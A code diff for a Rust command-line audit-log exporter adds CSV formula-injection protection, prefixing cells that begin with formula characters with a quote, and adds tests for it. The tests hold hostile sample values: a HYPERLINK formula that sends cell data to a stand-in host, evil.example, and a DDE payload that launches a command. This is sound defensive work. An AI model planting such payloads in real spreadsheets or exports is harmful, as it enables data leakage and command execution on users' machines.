@@ -22,9 +22,14 @@ Formats:
                    quoted, quotes doubled), with a header line and the columns
                    seq,occurred_at,actor_type,actor_id,actor_email,action,target_type,
                    target_id,ip,user_agent,outcome,details,prev_hash,hash
-                   (details as compact JSON; absent values empty)
-Values are written exactly as recorded (needed to check the hashes): they are not escaped
-for spreadsheets, so import user_agent and other free-text columns as text.
+                   (details as compact JSON; absent values empty).
+                   Safe to open in a spreadsheet: a value that begins with =, +, -, @,
+                   a tab or a carriage return (a user agent such as =HYPERLINK(...),
+                   an actor such as @SUM(...)) is written with a leading single quote
+                   ('=HYPERLINK(...)), so it shows as text and never runs as a formula
+                   (OWASP's CSV injection rule). Such cells differ from the recorded
+                   values: check hashes with jsonl or `wt audit verify`.
+JSON lines are written exactly as recorded (the API's entries, byte for byte).
 
 Resuming: --after SEQ starts after that sequence number; pass the last seq you already
 have (e.g. `tail -n1 audit.jsonl | jq .seq`) and add --append to extend the file (no second
@@ -40,7 +45,7 @@ Examples:
 pub enum ExportFormat {
     /// One JSON object per line
     Jsonl,
-    /// RFC 4180 CSV with a header line
+    /// RFC 4180 CSV with a header line, formulas neutralised for spreadsheets
     Csv,
 }
 
@@ -212,12 +217,23 @@ impl<'a> Sink<'a> {
     }
 }
 
-/// One CSV field: quoted when it holds a comma, a quote or a line break (quotes doubled).
+/// First characters that make a spreadsheet read a cell as a formula (OWASP, CSV
+/// injection): `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One CSV field: a value a spreadsheet would run as a formula gets a leading `'` (shown
+/// as text, SECURITY.md #64); then quoted when it holds a comma, a quote or a line break
+/// (quotes doubled). Every value of the CSV export goes through here.
 pub fn csv_field(s: &str) -> std::borrow::Cow<'_, str> {
+    let s: std::borrow::Cow<'_, str> = if s.starts_with(FORMULA_STARTS) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\"")).into()
     } else {
-        s.into()
+        s
     }
 }
 
@@ -311,6 +327,23 @@ mod tests {
     }
 
     #[test]
+    fn csv_fields_that_a_spreadsheet_would_run_are_neutralised() {
+        assert_eq!(csv_field("=1+2"), "'=1+2");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2"), "'-2");
+        assert_eq!(csv_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_field("\rx"), "\"'\rx\"");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example\",\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""
+        );
+        // Only the first character counts.
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field("2001:db8::1"), "2001:db8::1");
+    }
+
+    #[test]
     fn csv_records_follow_the_header_column_order_with_quoting() {
         let mut e = entry(5);
         e.user_agent = Some("Mozilla/5.0 (X11, \"Linux\")".into());
@@ -358,6 +391,45 @@ mod tests {
             r.err.is_empty(),
             "no progress when stderr is not a terminal"
         );
+    }
+
+    #[tokio::test]
+    async fn a_user_agent_formula_is_text_in_csv_and_exact_in_jsonl() {
+        let ua = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
+        let mut hostile = entry_json(7);
+        hostile["user_agent"] = ua.into();
+        hostile["actor"]["email"] = "@SUM(1+1)@acme.test".into();
+        hostile["target"]["id"] = "-1+cmd|' /C calc'!A0".into();
+        let page = serde_json::json!({"items": [hostile.clone()], "next_cursor": null});
+        let path = "/api/v1/orgs/audit-logs?order=asc&limit=1000";
+        let r = run_wt(
+            &["wt", "audit", "export", "--format", "csv"],
+            "",
+            vec![("GET", path, Reply::json(200, page.clone()))],
+        )
+        .await;
+        assert!(r.result.is_ok(), "{:?}", r.result);
+        let row = r.out.split("\r\n").nth(1).unwrap_or_default();
+        assert!(
+            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\","),
+            "{row}"
+        );
+        assert!(row.contains(",'@SUM(1+1)@acme.test,"), "{row}");
+        assert!(row.contains(",'-1+cmd|' /C calc'!A0,"), "{row}");
+        // No cell of the row begins with a formula character.
+        for cell in row.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {row}");
+        }
+        let r = run_wt(
+            &["wt", "audit", "export", "--format", "jsonl"],
+            "",
+            vec![("GET", path, Reply::json(200, page))],
+        )
+        .await;
+        assert!(r.result.is_ok(), "{:?}", r.result);
+        let back: serde_json::Value = serde_json::from_str(r.out.trim()).unwrap_or_default();
+        assert_eq!(back, hostile, "JSON lines stay exact");
     }
 
     #[tokio::test]
